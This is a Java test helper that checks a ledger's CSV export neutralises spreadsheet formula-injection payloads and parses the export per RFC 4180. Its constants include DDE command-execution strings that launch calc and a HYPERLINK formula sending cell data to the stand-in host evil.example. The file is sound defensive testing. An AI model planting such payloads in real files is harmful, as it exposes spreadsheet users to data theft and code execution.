package jp.go.jica.approval.ledger;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;

/**
 * CSV injection payloads, one per character OWASP lists (= + - @ tab CR), and the check that a
 * register's export shows each as text, never as a formula. The CSV is parsed as a spreadsheet
 * would (RFC 4180), so quoting and escaping are checked too, not only the leading quote.
 */
public final class FormulaCells {

  public static final String EQUALS = "=cmd|' /C calc'!A0";
  public static final String PLUS = "+HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
  public static final String MINUS = "-2+3+cmd|' /C calc'!A0";
  public static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
  public static final String TAB = "\t=1+1";
  public static final String CR = "\r=1+1";

  private static final String FORMULA_START = "=+-@\t\r";

  private FormulaCells() {
  }

  /** Each payload is in the export as its own cell, prefixed with ', and no cell starts a formula. */
  public static void assertNeutralised(String csv, String... payloads) {
    List<List<String>> rows = parse(csv);
    List<String> cells = rows.stream().flatMap(List::stream).toList();
    for (String payload : payloads) {
      assertThat(cells).as("cell of %s", payload.replace("\t", "\\t").replace("\r", "\\r")).contains("'" + payload);
    }
    for (String cell : cells) {
      assertThat(!cell.isEmpty() && FORMULA_START.indexOf(cell.charAt(0)) >= 0).as("cell starts a formula: %s", cell).isFalse();
    }
    int columns = rows.get(0).size();
    assertThat(rows).as("every row has the header's columns").allSatisfy(row -> assertThat(row).hasSize(columns));
  }

  /** RFC 4180: quoted cells may hold commas, doubled quotes and line breaks; a leading BOM is skipped. */
  public static List<List<String>> parse(String csv) {
    String text = csv.startsWith("\uFEFF") ? csv.substring(1) : csv;
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
      } else {
        cell.append(c);
      }
    }
    if (cell.length() > 0 || !row.isEmpty()) {
      row.add(cell.toString());
      rows.add(row);
    }
    return rows;
  }
}
